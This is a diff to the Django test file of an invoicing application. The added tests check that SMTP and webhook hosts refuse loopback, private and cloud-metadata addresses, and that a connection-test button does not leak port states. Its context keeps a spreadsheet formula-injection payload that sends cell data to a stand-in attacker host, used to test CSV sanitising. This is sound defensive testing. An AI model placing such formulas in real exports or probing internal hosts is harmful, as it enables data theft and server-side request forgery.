@@ -7,14 +7,19 @@ from __future__ import annotations
 
 import csv
 import io
+import socket
 from decimal import Decimal as D
 
+import pytest
+from django.core.exceptions import ValidationError
+from django.urls import reverse
 from django.utils import translation
 from openpyxl import load_workbook
 
 from recurent.common.csvsafe import safe_cell
 from recurent.payments import reports
 from tests.factories import local
+from tests.mail.conftest import mail_world, smtp_server  # noqa: F401
 from tests.payments.helpers import issued
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -61,3 +66,82 @@ def test_every_formula_start_is_neutralised_and_other_values_are_kept():
         and safe_cell(-5) == -5
         and safe_cell("Acme SRL") == "Acme SRL"
     )
+
+
+# --- 9. SMTP hosts follow the webhook address policy ---------------------------------------
+
+
+@pytest.fixture
+def strict_hosts(settings):
+    """The production default: only public internet addresses."""
+    settings.RECURENT_WEBHOOKS_ALLOW_PRIVATE = False
+    settings.RECURENT_ALLOW_PRIVATE_HOSTS = False
+    return settings
+
+
+@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "10.1.2.3", "169.254.169.254", "[::1]"])
+def test_smtp_settings_refuse_loopback_and_private_hosts(world, strict_hosts, host):
+    from recurent.mail.models import SmtpSettings
+    from recurent.mail.services import smtp_settings_save
+
+    with pytest.raises(ValidationError) as e:
+        smtp_settings_save(
+            company=world.company, host=host, from_email="f@demo.ro", security="none"
+        )
+    assert "host" in e.value.message_dict
+    assert not SmtpSettings.objects.filter(company=world.company).exists()
+
+
+def test_the_general_setting_allows_private_hosts_for_smtp_and_webhooks(world, strict_hosts):
+    from recurent.api.webhooks import endpoint_create
+    from recurent.mail.services import smtp_settings_save
+
+    strict_hosts.RECURENT_ALLOW_PRIVATE_HOSTS = True
+    assert smtp_settings_save(company=world.company, host="127.0.0.1", from_email="f@demo.ro").pk
+    assert endpoint_create(
+        company=world.company, url="http://127.0.0.1:9/hook", events=["*"], as_of=local(2026, 1, 1)
+    )
+
+
+def test_the_sender_refuses_a_host_that_became_private(mail_world, strict_hosts):  # noqa: F811
+    from recurent.mail import sender
+    from recurent.mail.models import SmtpSettings
+
+    cfg = SmtpSettings.objects.get(company=mail_world.company)  # saved while allowed
+    with pytest.raises(sender.Temporary, match="not public"):
+        sender.connect(cfg)
+
+
+def test_the_test_button_says_the_same_for_a_closed_and_an_open_port(world, smtp_server):  # noqa: F811
+    """A closed port, a listener that is not SMTP and a server that refuses the login answer
+    alike: the button is no port scanner."""
+    from django.test import Client as Browser
+
+    from recurent.mail.services import smtp_settings_save
+    from tests.mail.conftest import free_port
+
+    world.user.email = "admin@demo.ro"
+    world.user.save()
+    browser = Browser()
+    browser.force_login(world.user)
+    silent = socket.socket()
+    silent.bind(("127.0.0.1", 0))
+    silent.listen(1)  # accepts, never greets
+    answers = []
+    try:
+        for port, username in (
+            (free_port(), ""),  # closed
+            (silent.getsockname()[1], ""),  # open, not SMTP
+            (smtp_server.port, "someone"),  # SMTP without AUTH: login refused
+        ):
+            smtp_settings_save(company=world.company, host="127.0.0.1", port=port, security="none",
+                               username=username, password="x", from_email="f@demo.ro", timeout=1)  # fmt: skip
+            r = browser.post(reverse("mail:settings-test"), follow=True)
+            assert r.status_code == 200
+            page = r.content.decode()
+            alert = page[page.index('id="test-answer"') :]
+            answers.append(alert[: alert.index("</div>")])
+    finally:
+        silent.close()
+    assert answers[0] == answers[1] == answers[2]
+    assert str(port) not in answers[0] and "Refused" not in answers[0]
